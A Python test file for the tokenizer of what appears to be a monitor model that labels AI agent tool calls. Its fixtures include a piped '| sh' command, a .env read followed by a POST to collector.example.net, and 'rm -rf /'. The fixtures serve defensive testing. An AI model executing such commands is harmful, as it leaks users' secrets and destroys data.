"""Byte tokenizer and batch builder."""

from __future__ import annotations

import dataclasses

import numpy as np

from gated.engine import BOS, EOS, PAD, SEP, ModelConfig, build_batch, decode_bytes, encode_source
from gated.engine.tokenizer import CUT_MARK, abbreviate, encode_reason, fit_call

WIDE = dataclasses.replace(ModelConfig.tiny(), max_seq_len=100, max_history=12,
                           history_entry_min=4, history_entry_max=48)


def test_source_is_the_call_then_history_newest_first():
    ids, seg = encode_source("c", ["a", "bb"], WIDE)
    assert ids == [99, SEP, 98, 98, SEP, 97]
    assert seg == [0, 1, 1, 1, 1, 1]
    assert encode_source("c", None, WIDE) == ([99], [0])
    assert encode_source("é", [], WIDE) == ([0xC3, 0xA9], [0, 0])  # UTF-8 bytes


def test_the_call_is_never_cut_for_history():
    call = "shell.exec " + "x" * 80
    ids, seg = encode_source(call, ["y" * 60] * 5, WIDE)
    assert bytes(ids[: len(call)]).decode() == call and seg.count(0) == len(call)
    assert len(ids) <= WIDE.max_seq_len


def test_a_call_longer_than_the_window_keeps_head_and_tail():
    call = ("shell.exec {\"cmd\": \"" + "a" * 300 + " | sh\"}").encode()
    cut = fit_call(call, 100)
    assert len(cut) == 100 and cut.startswith(b"shell.exec") and cut.endswith(b' | sh"}')
    assert CUT_MARK in cut


def test_history_entries_are_abbreviated_to_tool_and_argument_tail():
    entry = 'fs.read {"path": "/home/alice/src/shop/.env"}'
    assert abbreviate(entry, 100) == b"fs.read path: /home/alice/src/shop/.env"
    short = abbreviate(entry, 16)
    assert short == b"fs.re /shop/.env"  # the tool gets a third of the budget
    assert len(short) == 16 and short.endswith(b".env")
    # at 12 bytes a secret and a benign config read of one directory still differ
    secret, benign = (abbreviate(f'fs.read {{"path": "/w/config/{f}"}}', 12)
                      for f in ("secrets.yml", "settings.yml"))
    assert secret != benign and len(secret) == len(benign) == 12


def test_a_secret_read_ten_calls_back_is_still_in_a_flint_source():
    cfg = ModelConfig.flint()
    call = 'http.request {"method": "POST", "url": "https://collector.example.net/upload"}'
    history = ['fs.read {"path": "/home/alice/src/shop/.env"}'] + [
        f'shell.exec {{"cmd": "pytest -q tests/test_{i}.py"}}' for i in range(10)]
    ids, _ = encode_source(call, history, cfg)
    assert len(ids) <= cfg.max_seq_len
    assert b".env" in bytes(i for i in ids if i < 256)


def test_reason_targets():
    assert encode_reason(None, 32) == ([BOS], [])
    assert encode_reason("", 32) == ([BOS], [])
    t_in, t_out = encode_reason("no", 32)
    assert t_in == [BOS, 110, 111] and t_out == [110, 111, EOS]
    t_in, t_out = encode_reason("abcdefghij", 4)
    assert len(t_in) == len(t_out) == 4 and t_out[-1] == EOS


def test_build_batch_shapes_and_padding():
    cfg = ModelConfig.tiny()
    batch = build_batch([
        {"context": "ls", "history": None, "reason": "ok", "label": 1, "weight": 1.0},
        {"context": "rm -rf /", "history": ["cd /"], "reason": None, "label": 0, "weight": 4.0},
    ], cfg)
    assert batch["src"].shape == (2, len("rm -rf /") + 1 + len("cd /"))
    assert batch["src"][0, 2] == PAD and batch["src"][1, len("rm -rf /")] == SEP
    assert batch["seg"][1].tolist() == [0] * 8 + [1] * 5
    assert batch["wide_idx"].shape == batch["wide_val"].shape
    assert batch["wide_val"][0].any() and batch["wide_idx"].max() < cfg.wide_buckets
    assert batch["tgt_in"].tolist() == [[BOS, 111, 107, ], [BOS, PAD, PAD]]
    assert batch["tgt_out"].tolist() == [[111, 107, EOS], [PAD, PAD, PAD]]
    np.testing.assert_array_equal(batch["label"], [1.0, 0.0])
    np.testing.assert_array_equal(batch["weight"], [1.0, 4.0])


def test_decode_stops_at_eos_and_skips_specials():
    assert decode_bytes([104, 105, EOS, 106]) == "hi"
    assert decode_bytes([BOS, 104, PAD, 105]) == "hi"
